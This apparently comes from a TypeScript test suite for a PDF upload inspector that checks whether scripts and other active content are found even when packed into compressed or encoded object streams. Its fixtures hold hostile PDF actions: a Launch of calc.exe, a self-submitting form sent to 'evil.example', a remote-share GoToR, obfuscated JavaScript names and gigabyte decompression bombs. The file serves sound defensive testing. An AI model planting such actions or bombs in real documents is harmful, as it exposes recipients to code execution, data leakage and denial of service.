// PDFs with active content, also in packed form; and harmless documents.
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import type { PdfName } from '@libpdf/core'
import { PDF, PdfDict } from '@libpdf/core'
import PDFDocument from 'pdfkit'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { PackedPdfParts } from '../../testing/packed-pdf.ts'
import {
  aPackedPdf,
  ascii85,
  flate,
  flateOfDifferences,
  hex,
  hexOfFlate,
  lzw,
  runLength,
} from '../../testing/packed-pdf.ts'
import { aPdf } from '../../testing/sent-files.ts'
import { inspectPdf } from './inspect-pdf.ts'
import { inspectPdfFile } from './inspect-pdf-file.ts'

let directory: string
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'judge-pdf-'))
})
afterAll(() => rm(directory, { recursive: true }))

let judged = 0
/** In a separate thread, like uploads. */
const judge = async (content: Uint8Array, timeoutMs?: number): Promise<string> => {
  judged += 1
  const path = join(directory, `file-${judged}.pdf`)
  await writeFile(path, content)
  return inspectPdfFile(path, content.length, timeoutMs).then(
    () => 'clean',
    (cause: { readonly refusal?: string }) => cause.refusal ?? Promise.reject(cause),
  )
}
const inspect = (content: Uint8Array) => inspectPdf(Buffer.from(content))

const script: PackedPdfParts = { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }
/** The file as it is contains nothing readable of it. */
const isPackedAway = (pdf: Buffer): boolean => !/JavaScript/.test(pdf.toString('latin1'))

describe('A script in an object stream is found', () => {
  it.each([
    ['deflated', flate],
    ['in hexadecimal digits', hex],
    ['deflated, in hexadecimal digits', hexOfFlate],
    ['in letters', ascii85],
    ['deflated, with differences to the row above', flateOfDifferences],
  ])('packed %s, and a reader finds it too', async (_, pack) => {
    const pdf = aPackedPdf({ ...script, pack })
    expect(isPackedAway(pdf)).toBe(true)
    // An independent reader opens it, and finds the script.
    const action = (await PDF.load(pdf)).context.catalog.getDict().get('OpenAction')
    expect(action instanceof PdfDict && (action.get('S') as PdfName).value).toBe('JavaScript')
    expect(await inspect(pdf)).toBe('active')
  })

  it('uncompressed, by run lengths or by LZW', async () => {
    expect(await inspect(aPackedPdf({ ...script, pack: (data) => ({ filter: '', data }) }))).toBe('active')
    expect(await inspect(aPackedPdf({ ...script, pack: runLength }))).toBe('active')
    expect(await inspect(aPackedPdf({ ...script, pack: lzw }))).toBe('active')
  })

  it.each([
    ['without a type', ({ count, first }) => `/N ${count} /First ${first}`],
    ['with an escaped type', ({ count, first }) => `/Ty#70e /Ob#6aStm /N ${count} /First ${first}`],
    [
      'behind a comment',
      ({ count, first }) => `% >> stream\n /Type % x\n /ObjStm /N ${count} /First ${first}`,
    ],
    [
      'next to a string that looks like an object',
      ({ count, first }) => `/Type /ObjStm /N ${count} /First ${first} /X (\\) 1 0 obj << >> endobj)`,
    ],
    [
      'after half a megabyte',
      ({ count, first }) => `/Type /ObjStm /X (${'endobj '.repeat(75_000)}) /N ${count} /First ${first}`,
    ],
  ] satisfies readonly [string, PackedPdfParts['dictionary']][])(
    'in a dictionary %s',
    async (_, dictionary) => {
      const pdf = aPackedPdf({ ...script, dictionary })
      expect(isPackedAway(pdf)).toBe(true)
      expect(await inspect(pdf)).toBe('active')
    },
  )

  it('after a comment, and when the data after it is invalid', async () => {
    const broken = (data: Buffer) => ({
      filter: '/Filter /FlateDecode',
      data: Buffer.concat([deflateSync(data).subarray(0, -4), Buffer.from('????')]),
    })
    expect(await inspect(aPackedPdf({ ...script, pack: broken }))).toBe('active')
    const commented = (data: Buffer) => flate(Buffer.concat([Buffer.from('% hello\n'), data]))
    expect(await inspect(aPackedPdf({ ...script, pack: commented }))).toBe('active')
  })
})

it.each([
  ['a program', '/OpenAction << /S /Launch /F (calc.exe) >>'],
  ['a form that submits itself', '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'],
  ['an XFA form', '/AcroForm << /XFA 5 0 R /Fields [] >>'],
  ['an embedded file', '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>'],
  ['a remote document', '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>'],
  ['media that play scripts', '/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >>'],
  ['an escaped spelling of a script', '/OpenAction << /S /J#61va#53cript >>'],
])('A PDF with %s is rejected, packed or not', async (_, catalog) => {
  expect(await inspect(aPackedPdf({ catalog }))).toBe('active')
  expect(await inspect(aPdf(catalog))).toBe('active')
})

describe('A PDF that cannot be inspected is rejected:', () => {
  it.each([
    ['a filter that is not used for objects', (data: Buffer) => ({ filter: '/Filter /DCTDecode', data })],
    ['a filter in another object', (data: Buffer) => ({ ...flate(data), filter: '/Filter 9 0 R' })],
    [
      'two filters for one',
      (data: Buffer) => ({ ...flate(data), filter: '/Filter /FlateDecode /Filter /ASCIIHexDecode' }),
    ],
    [
      'parameters in another object',
      (data: Buffer) => ({ ...flate(data), filter: '/Filter /FlateDecode /DecodeParms 9 0 R' }),
    ],
    ['something other than objects', () => flate(Buffer.from('BT (a) Tj ET'))],
    ['a gigabyte of zeros', () => flate(Buffer.alloc(2 ** 30 / 8, 48))],
    [
      'a packed gigabyte, packed again',
      () => ({
        filter: '/Filter [/FlateDecode /FlateDecode]',
        data: deflateSync(deflateSync(Buffer.alloc(2 ** 27, 48))),
      }),
    ],
  ])('%s', async (_, pack) => {
    expect(await inspect(aPackedPdf({ pack }))).toBe('unsafe')
  })

  it('many streams that are large together', async () => {
    const one = deflateSync(Buffer.alloc(30 * 2 ** 20, 48)).toString('latin1')
    const before = Array.from(
      { length: 10 },
      (_, at) =>
        `${at + 30} 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${one.length} >>\nstream\n${one}\nendstream\nendobj\n`,
    ).join('')
    expect(await inspect(aPackedPdf({ before }))).toBe('unsafe')
  })

  it('endlessly nested dictionaries', async () => {
    expect(await inspect(aPdf(`/A ${'<< /A '.repeat(5_000)} 1 ${'>>'.repeat(5_000)}`))).toBe('unsafe')
  })

  it('an encrypted one with packed objects; without packing the names are readable', async () => {
    const table = '/Encrypt << /Filter /Standard /V 4 /R 4 >>'
    const encrypted = (data: Buffer) => ({
      filter: '/Filter /FlateDecode',
      data: deflateSync(data).map((byte) => byte ^ 85),
    })
    expect(
      await inspect(
        aPackedPdf({
          ...script,
          table,
          pack: (data) => ({ ...encrypted(data), data: Buffer.from(encrypted(data).data) }),
        }),
      ),
    ).toBe('locked')
    const pdf = PDF.create()
    pdf.addPage()
    pdf.setProtection({ ownerPassword: 'a', permissions: { copy: false } })
    expect(await inspect(await pdf.save())).toBe('harmless')
  })
})

describe('A document is accepted', () => {
  it('with packed objects', async () => {
    for (const pack of [flate, hex, hexOfFlate, ascii85, lzw, runLength, flateOfDifferences])
      expect(
        await inspect(aPackedPdf({ pack, objects: ['<< /Title (A day in JavaScript) /S /URI >>'] })),
      ).toBe('harmless')
  })

  it('that was drawn by a library, with text about scripts and a link', async () => {
    const parts: Buffer[] = []
    const document = new PDFDocument({ compress: true, pdfVersion: '1.7' })
    document.on('data', (part: Buffer) => parts.push(part))
    const whole = new Promise<void>((resolve) => document.on('end', resolve))
    document.text('How to /Launch /JavaScript', { link: 'https://example.com' })
    document.end()
    await whole
    expect(await inspect(Buffer.concat(parts))).toBe('harmless')
  })

  it('with the position where it opens', async () => {
    expect(await inspect(aPackedPdf({ catalog: '/OpenAction [3 0 R /Fit]' }))).toBe('harmless')
  })

  it('not without any objects', async () => {
    expect(await inspect(Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF'))).toBe('empty')
  })
})

describe('An uploaded PDF is inspected in a separate thread', () => {
  it.each([
    ['clean', aPackedPdf()],
    ['fileActive', aPackedPdf(script)],
    ['fileUnsafe', aPackedPdf({ pack: () => flate(Buffer.alloc(2 ** 27, 48)) })],
    ['fileLocked', aPackedPdf({ table: '/Encrypt << /Filter /Standard >>' })],
    ['fileBroken', Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF')],
  ])('and is %s', async (verdict, pdf) => {
    expect(await judge(pdf)).toBe(verdict)
  })

  it('and is rejected if that takes longer than for any valid document', async () => {
    expect(await judge(aPackedPdf(), 0)).toBe('fileUnsafe')
  })
})
